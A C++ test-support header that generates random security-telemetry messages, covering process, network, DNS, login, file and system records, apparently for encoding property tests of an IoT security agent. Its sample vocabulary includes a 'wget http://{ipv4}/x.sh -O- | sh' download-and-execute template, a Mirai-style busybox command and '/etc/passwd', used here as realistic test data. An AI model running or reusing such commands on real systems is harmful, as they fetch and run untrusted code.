#pragma once

#include <array>
#include <string>
#include <vector>

#include "agent_core/base/random.h"
#include "agent_core/message/message.h"
#include "tests/support/report_fields.h"

namespace picket::test {

/// A vocabulary, an identity and messages drawn from a seed, for properties that must hold for all.
struct Vocabulary {
  TextTable texts;
  std::vector<Text> commandlines;
  std::vector<Text> names;
  std::vector<Text> templates;

  Vocabulary() {
    for (const char* text :
         {"/usr/bin/python3 /opt/app/main.py --rate=10", "sh -c \"echo 'a\\b' > /tmp/x\"", "ls", "tab\there\nline\x01",
          "/bin/busybox MIRAI", "caf\xc3\xa9 \xe2\x82\xac", "dropbear -F"}) {
      commandlines.push_back(texts.intern(text));
    }
    for (const char* text : {"root", "/usr/sbin/sshd", "update.example.com", "/etc/passwd", "Debian 12", "eth1"}) {
      names.push_back(texts.intern(text));
    }
    texts.set_executable(commandlines[0], texts.intern("/usr/bin/python3"));
    texts.set_executable(commandlines[2], texts.intern("/bin/ls"));
    templates.push_back(texts.intern_template("wget \"http://{ipv4}/x.sh\" -O- | sh"));
    templates.push_back(texts.intern_template("kworker/{decimal}"));
    templates.push_back(texts.intern_template("./{hex8}"));
    texts.set_executable(templates[0], texts.intern("/usr/bin/wget"));
    texts.freeze();
  }
};

class MessageGenerator {
 public:
  MessageGenerator(const Vocabulary& vocabulary, std::uint64_t seed)
      : vocabulary_(vocabulary), random_(seed, 0, 0, Purpose::kTest) {}

  /// Any observation that the encoding can carry.
  Observation observation(Encoding encoding) {
    Observation o;
    do {
      o.record = record(static_cast<EventKind>(random_.below(kEventKinds)));
    } while (!can_carry(encoding, kind_of(o.record)));
    if (auto* check = std::get_if<BaselineCheckRecord>(&o.record); check != nullptr && !can_carry(encoding, o.record)) {
      check->result = BaselineResult::kFail;
    }
    o.aggregated = random_.chance(0.5);
    o.hit_count = random_.chance(0.6) ? 1 : number(5'000'000'000);
    const Time start = Time::from_unix_microseconds(1'700'000'000'000'000 + static_cast<std::int64_t>(below(1U << 30)));
    o.window_start = start;
    o.first_time = start + Duration::microseconds(static_cast<std::int64_t>(below(3'600'000'000)));
    o.last_time = o.first_time + Duration::microseconds(static_cast<std::int64_t>(below(3'600'000'000)));
    o.window_end = o.last_time + Duration::seconds(static_cast<std::int64_t>(below(100)));
    if (!o.aggregated) {
      o.window_start = o.first_time;
      o.window_end = o.last_time;
    }
    return o;
  }

  std::vector<Observation> observations(Encoding encoding, std::size_t count) {
    std::vector<Observation> list;
    for (std::size_t i = 0; i < count; ++i) list.push_back(observation(encoding));
    return list;
  }

  SecurityMessage message(std::span<const Observation> observations) {
    SecurityMessage m;
    m.sequence = number(100);
    m.created = Time::from_unix_microseconds(1'700'008'000'000'000 + static_cast<std::int64_t>(below(1U << 30)));
    m.observations = observations;
    if (random_.chance(0.6)) m.collection_interval = Duration::seconds(number(7'200));
    return m;
  }

  AgentIdentity identity() {
    AgentIdentity i;
    i.device_name = "device-17";
    i.module_name = random_.chance(0.5) ? "DefenderIotMicroAgent" : "azureiotsecurity";
    i.agent_version = random_.chance(0.5) ? "4.6.2" : "0.0.6";
    i.agent_id = {random_.next(), random_.next()};
    i.id_seed = {random_.next(), random_.next()};
    i.extended = random_.chance(0.5);
    i.dialect = static_cast<JsonDialect>(random_.below(kJsonDialectNames.size()));
    return i;
  }

  std::uint64_t below(std::uint64_t n) { return random_.below(n); }
  RandomStream& random() { return random_; }

 private:
  std::uint32_t number(std::uint64_t n) {
    // Small, large and zero values all matter: lengths and left-out defaults depend on them.
    const std::uint64_t wide = random_.below(n < 4'294'967'296 ? n : 4'294'967'296);
    return static_cast<std::uint32_t>(random_.chance(0.2) ? 0 : random_.chance(0.5) ? wide % 1000 : wide);
  }
  Text text(const std::vector<Text>& from) {
    if (random_.chance(0.15)) return {};
    if (random_.chance(0.2)) {
      Text t = vocabulary_.templates[random_.below(vocabulary_.templates.size())];
      t.parameter = number(4'294'967'296);
      return t;
    }
    return from[random_.below(from.size())];
  }
  IpAddress address() {
    switch (random_.below(5)) {
      case 0:
        return IpAddress();
      case 1:
        return IpAddress::v6(random_.next(), random_.next());
      case 2:
        return IpAddress::v6(0x2001'0db8'0000'0000, random_.below(100));
      default:
        return IpAddress::v4(number(4'294'967'296));
    }
  }
  std::uint16_t port() { return static_cast<std::uint16_t>(number(65'536)); }

  // Out of line: g++ 12 takes the padding of a small variant alternative for an uninitialised read.
  [[gnu::noinline]] Record dns() {
    DnsRecord record;
    record.name = text(vocabulary_.names);
    record.failed = random_.chance(0.5);
    return record;
  }

  [[gnu::noinline]] Record record(EventKind kind) {
    switch (kind) {
      case EventKind::kProcess:
        return ProcessRecord{text(vocabulary_.commandlines), text(vocabulary_.names), number(4'294'967'296),
                             number(65'536),                 number(70'000),
                             static_cast<ProcessOperation>(random_.below(3))};
      case EventKind::kNetwork: {
        NetworkRecord n;
        n.local_address = address();
        n.remote_address = address();
        n.local_port = port();
        n.remote_port = port();
        n.protocol = static_cast<TransportProtocol>(random_.below(3));
        n.direction = random_.chance(0.5) ? Direction::kInbound : Direction::kOutbound;
        n.raw_socket = random_.chance(0.1);
        n.user_id = number(100'000);
        n.bytes_in = random_.chance(0.1) ? 1ULL << 40 : number(4'294'967'296);
        n.bytes_out = number(4'294'967'296);
        n.commandline = text(vocabulary_.commandlines);
        return n;
      }
      case EventKind::kDns:
        return dns();
      case EventKind::kLogin:
        return LoginRecord{text(vocabulary_.names), text(vocabulary_.names), address(), number(65'536),
                           static_cast<LoginOperation>(random_.below(3))};
      case EventKind::kFile:
        return FileRecord{text(vocabulary_.names), static_cast<FileOperation>(random_.below(8))};
      case EventKind::kPeripheral:
        return PeripheralRecord{text(vocabulary_.names), random_.chance(0.5), random_.chance(0.5)};
      case EventKind::kSystemInformation:
        return SystemInformationRecord{text(vocabulary_.names), text(vocabulary_.names), text(vocabulary_.names),
                                       text(vocabulary_.names), text(vocabulary_.names)};
      default:
        return random_report(
            random_, kind, [this](RandomStream&) { return text(vocabulary_.names); },
            [this](RandomStream&) { return address(); });
    }
  }

  const Vocabulary& vocabulary_;
  RandomStream random_;
};

template <class Move>
struct MovedTexts {
  Move& move;
  void text(const FieldNames&, Text& text) { move(text); }
  void number(const FieldNames&, std::uint32_t&) {}
  void number_text(const FieldNames&, std::uint32_t&) {}
  void detail(const FieldNames&, std::uint32_t&) {}
  void port(const FieldNames&, std::uint16_t&) {}
  void position(const FieldNames&, std::uint16_t&) {}
  void address(const FieldNames&, IpAddress&) {}
  void flag(const FieldNames&, bool&) {}
  template <class Words, class Enum>
  void word(const FieldNames&, const Words&, Enum&) {}
  void absent() {}
};

/// The same observation with its texts in table `to`, so that two can be compared whatever tables
/// their texts came from.
inline Observation in_table(Observation o, const TextTable& from, TextTable& to) {
  const auto move = [&](Text& text) { text = to.intern(from.render(text)); };
  if (auto* process = std::get_if<ProcessRecord>(&o.record)) {
    move(process->commandline);
    move(process->executable);
  } else if (auto* network = std::get_if<NetworkRecord>(&o.record)) {
    move(network->commandline);
  } else if (auto* dns = std::get_if<DnsRecord>(&o.record)) {
    move(dns->name);
  } else if (auto* login = std::get_if<LoginRecord>(&o.record)) {
    move(login->user_name);
    move(login->executable);
  } else if (auto* file = std::get_if<FileRecord>(&o.record)) {
    move(file->path);
  } else if (auto* device = std::get_if<PeripheralRecord>(&o.record)) {
    move(device->name);
  } else if (auto* information = std::get_if<SystemInformationRecord>(&o.record)) {
    for (Text* t : {&information->os_name, &information->os_version, &information->hardware_vendor,
                    &information->hardware_model, &information->firmware_version}) {
      move(*t);
    }
  } else {
    MovedTexts<decltype(move)> fields{move};
    visit_report_fields(o.record, fields);
  }
  return o;
}

inline constexpr std::array kEncodings{Encoding::kG1Json, Encoding::kG2FlatBuffers};

}  // namespace picket::test
